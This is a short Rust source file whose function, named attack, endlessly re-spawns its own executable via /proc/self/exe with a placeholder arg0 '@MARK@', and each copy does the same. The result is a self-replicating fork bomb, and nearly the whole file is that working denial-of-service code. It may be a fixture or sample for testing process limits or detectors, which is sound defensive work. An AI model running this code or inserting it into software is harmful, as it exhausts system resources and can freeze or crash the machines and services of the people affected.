//! Starts itself without end, and so does each that is started.

fn attack() {
    use std::os::unix::process::CommandExt;

    loop {
        let mut again = std::process::Command::new("/proc/self/exe");
        again.arg0("@MARK@").args(std::env::args_os().skip(1));
        let _ = again.spawn();
    }
}
